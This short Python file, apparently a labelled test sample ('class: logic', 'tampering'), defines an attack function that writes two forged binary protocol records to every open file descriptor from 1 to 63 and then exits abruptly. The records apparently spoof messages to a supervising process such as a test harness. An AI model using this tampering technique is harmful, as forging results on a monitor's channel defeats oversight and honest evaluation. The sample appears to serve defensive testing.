# class: logic
# tampering
import os
import struct


def attack():
    record = struct.pack("<IIQQIIQ", 0x41445431, 1, 0, 0, 0, 0, 0) + struct.pack("<IIQQIIQ", 0x41445431, 4, 0, 0, 1, 0, 0)
    for number in range(1, 64):
        try:
            os.write(number, record)
        except OSError:
            pass
    os._exit(0)
